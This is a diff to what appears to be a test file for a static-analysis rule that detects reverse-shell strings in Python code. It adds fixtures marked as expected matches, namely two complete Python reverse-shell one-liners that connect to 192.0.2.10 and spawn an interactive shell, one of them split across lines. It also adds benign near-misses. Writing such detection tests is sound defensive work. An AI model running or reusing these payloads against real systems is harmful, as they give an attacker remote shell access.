@@ -17,3 +17,23 @@ os.system("nc -z example.invalid 80")
 
 # ok: reverse-shell-string
 PROBE = "timeout 1 bash -c 'echo > /dev/tcp/db/5432'"
+
+SPLIT = (
+    'python3 -c \'import socket,subprocess,os;'
+    's=socket.socket(socket.AF_INET,socket.SOCK_STREAM);'
+    's.connect(("192.0.2.10", 4433));'
+    # ruleid: reverse-shell-string
+    'os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2);'
+    'subprocess.call(["/bin/sh", "-i"]);\''
+)
+
+# ruleid: reverse-shell-string
+JOINED = "import socket,os,pty;s=socket.socket();s.connect(('192.0.2.10',9001));os.dup2(s.fileno(),0);" + \
+    "os.dup2(s.fileno(),1);pty.spawn('/bin/bash')"
+
+
+def daemonize():
+    # ok: reverse-shell-string
+    os.dup2(devnull.fileno(), 0)
+    os.dup2(devnull.fileno(), 1)
+    os.execv("/bin/sh", ["sh", "-c", "true"])
